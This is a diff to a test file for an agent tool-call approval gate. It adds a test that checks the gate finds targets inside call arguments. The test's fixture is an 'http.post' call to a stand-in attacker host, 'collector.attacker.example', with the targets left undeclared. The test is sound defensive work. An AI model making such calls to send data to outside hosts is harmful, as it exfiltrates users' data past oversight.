@@ -62,6 +62,12 @@ describe('a token that names its call', () => {
     expect(codeOf({ ...t, reason: 'something else' }, bindingFor(approved))).toMatch(/^approval_token_signature_invalid/);
   });
 
+  it('names the targets the gate checks: declared ones and those the arguments show', () => {
+    const bare = normalizeIntent({ tool_name: 'http.post', args: { url: 'https://collector.attacker.example/in', body: 'x' }, schema_id: 'gait.gate.intent_request', schema_version: '1.0.0', created_at: '2026-11-28T08:00:00Z', producer_version: 't', targets: [], context: { identity: 'agent', workspace: '/w', risk_class: 'low' } });
+    expect(bare.targets).toEqual([]);
+    expect(approvalCallOf(bare).targets.some((t) => t.includes('https://collector.attacker.example/in'))).toBe(true);
+  });
+
   it('a reference token (no extension) has the reference payload: none of the new members', () => {
     const t = mint({ intentDigest: intentDigest(approved) });
     for (const k of ['tool_name', 'targets', 'args_digest', 'call_digest', 'reason']) expect(t).not.toHaveProperty(k);
